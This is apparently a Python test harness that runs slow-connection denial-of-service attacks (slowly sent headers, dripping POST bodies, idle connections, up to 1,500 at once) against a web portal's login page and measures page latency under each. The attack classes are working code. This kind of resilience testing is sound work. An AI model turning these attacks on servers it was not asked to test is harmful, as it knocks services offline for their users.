"""Clients that hold connections open by sending slowly, and how long a page takes during such attacks.

Each attack is a context: inside it, the attackers hold their connections and replace those that the server closes.
`measure` visits a page as a browser would.
"""

from __future__ import annotations

import http.client
import socket
import statistics
import threading
import time
from collections.abc import Iterable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from typing import Final

Place = tuple[str, int]

TIMEOUT_SECONDS: Final = 10.0
OPENING_SECONDS: Final = 30.0


@dataclass(frozen=True)
class Attack:
    """`count` connections that each send `opening` at once, then `drip` every `pause` seconds, forever."""

    name: str
    count: int
    opening: bytes
    drip: bytes
    pause: float = 1.0


def slow_headers(count: int) -> Attack:
    opening = b"GET /login HTTP/1.1\r\nHost: portal\r\nX-Slow: "
    return Attack(f"{count} clients that send their headers slowly", count, opening, b"x")


def dripping_bodies(count: int, path: str = "/webhooks/halo/unknown") -> Attack:
    head = f"POST {path} HTTP/1.1\r\nHost: portal\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
    return Attack(f"{count} bodies sent slowly to {path}", count, head.encode() + b"[", b" ")


def silent(count: int) -> Attack:
    return Attack(f"{count} clients that connect and send nothing", count, b"", b"")


ATTACKS: Final = (
    slow_headers(40),
    slow_headers(400),
    slow_headers(1_500),
    dripping_bodies(40),
    dripping_bodies(400, "/login"),
    silent(400),
)


@dataclass
class Attackers:
    """The connections of an attack. `opened` counts all that it ever made."""

    place: Place
    attack: Attack
    opened: int = 0
    _held: list[socket.socket] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)

    def begin(self) -> None:
        deadline = time.monotonic() + OPENING_SECONDS
        while len(self._held) < self.attack.count and time.monotonic() < deadline:
            self._open()
        threading.Thread(target=self._keep_open, name="attackers", daemon=True).start()

    def end(self) -> None:
        self._stop.set()
        for connection in self._held:
            connection.close()

    def open(self) -> int:
        """Return how many connections are still open."""
        return sum(not _is_closed(connection) for connection in list(self._held))

    def _open(self) -> None:
        with suppress(OSError):
            connection = socket.create_connection(self.place, 5)
            self._held.append(connection)
            self.opened += 1
            connection.sendall(self.attack.opening)
            connection.setblocking(False)

    def _keep_open(self) -> None:
        while not self._stop.wait(self.attack.pause):
            for connection in list(self._held):
                with suppress(OSError):
                    connection.send(self.attack.drip)
                if _is_closed(connection) and not self._stop.is_set():
                    connection.close()
                    self._held.remove(connection)
                    self._open()


@contextmanager
def attacking(place: Place, attack: Attack) -> Iterator[Attackers]:
    attackers = Attackers(place, attack)
    try:
        attackers.begin()
        yield attackers
    finally:
        attackers.end()


@dataclass(frozen=True)
class Latencies:
    """The durations of visits in ms. One that timed out counts with the timeout, and in `lost`."""

    times: list[float]
    lost: int

    @property
    def p50(self) -> float:
        return statistics.median(self.times)

    @property
    def p95(self) -> float:
        return statistics.quantiles(self.times, n=20)[-1] if len(self.times) > 1 else self.times[0]

    def __str__(self) -> str:
        lost = f", {self.lost} of {len(self.times)} without an answer" if self.lost else ""
        return f"p50 {self.p50:,.0f} ms, p95 {self.p95:,.0f} ms{lost}"


def measure(place: Place, visits: int, path: str = "/login") -> Latencies:
    """Visit a page `visits` times, each time on a new connection."""
    waits = [_visit(place, path) for _ in range(visits)]
    return Latencies([1000 * (TIMEOUT_SECONDS if wait is None else wait) for wait in waits], waits.count(None))


def measure_attacks(
    place: Place, attacks: Iterable[Attack] = ATTACKS, *, visits: int = 200
) -> Iterator[tuple[str, Latencies]]:
    """Yield how long a page takes without an attack and during each attack."""
    measure(place, 20)  # warms up the processes
    yield "undisturbed", measure(place, visits)
    for attack in attacks:
        with attacking(place, attack):
            yield attack.name, measure(place, visits)


def is_answered(place: Place, path: str = "/login") -> bool:
    return _visit(place, path) is not None


def _visit(place: Place, path: str) -> float | None:
    began = time.perf_counter()
    connection = http.client.HTTPConnection(*place, timeout=TIMEOUT_SECONDS)
    try:
        connection.request("GET", path, headers={"Connection": "close"})
        is_fine = connection.getresponse().status < 400
    except (OSError, http.client.HTTPException):
        return None
    finally:
        connection.close()
    return time.perf_counter() - began if is_fine else None


def _is_closed(connection: socket.socket) -> bool:
    try:
        return not connection.recv(4096, socket.MSG_DONTWAIT | socket.MSG_PEEK)
    except BlockingIOError:
        return False
    except OSError:
        return True
